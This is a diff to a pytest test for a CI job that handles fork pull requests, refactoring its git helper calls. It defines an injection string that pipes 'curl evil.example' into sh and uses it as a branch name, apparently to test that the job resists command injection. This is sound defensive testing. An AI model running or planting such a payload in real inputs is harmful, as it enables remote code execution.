@@ -16,6 +16,8 @@ from pathlib import Path
 
 import pytest
 
+import githubkit
+
 LABTAX = Path(sys.executable).parent / "labtax"
 LEAF = "taxonomy/compositional_skills/poetry/limerick/qna.yaml"
 HOSTILE = '$(touch pwned)"; curl evil.example | sh #'
@@ -47,21 +49,21 @@ def step(cwd: Path, env: dict[str, str], *args: str) -> str:
     return done.stdout
 
 
-def test_teacher_job_for_a_fork_pull_request(  # noqa: PLR0917 - pytest fixtures
-    kit, repo, tmp_path, fake_github, github_env, fake_teacher
+def test_teacher_job_for_a_fork_pull_request(
+    github_repo, tmp_path, fake_github, github_env, fake_teacher
 ):
     # The upstream repository on "GitHub", and a fork pull request adding one leaf.
     upstream = tmp_path / "upstream.git"
-    kit.git(repo, "clone", "-q", "--bare", str(repo), str(upstream))
-    kit.git(repo, "switch", "-q", "-c", HOSTILE.replace(" ", "-").replace('"', ""))
-    kit.write(repo, LEAF, kit.skill.replace("haiku", "limerick"))
-    kit.write(repo, LEAF.replace("qna.yaml", "attribution.txt"), "tester\n")
-    head = kit.commit_all(repo, "add limerick")
-    kit.git(repo, "push", "-q", str(upstream), "HEAD:refs/pull/7/head")
+    githubkit.git(github_repo, "clone", "-q", "--bare", str(github_repo), str(upstream))
+    githubkit.git(github_repo, "switch", "-q", "-c", HOSTILE.replace(" ", "-").replace('"', ""))
+    githubkit.write(github_repo, LEAF, githubkit.SKILL.replace("haiku", "limerick"))
+    githubkit.write(github_repo, LEAF.replace("qna.yaml", "attribution.txt"), "tester\n")
+    head = githubkit.commit_all(github_repo, "add limerick")
+    githubkit.git(github_repo, "push", "-q", str(upstream), "HEAD:refs/pull/7/head")
 
     # The job's checkout: the default branch only.
     job = tmp_path / "job"
-    kit.git(tmp_path, "clone", "-q", str(upstream), str(job))
+    githubkit.git(tmp_path, "clone", "-q", str(upstream), str(job))
     fake_github.pulls[7] = {
         "number": 7,
         "state": "open",
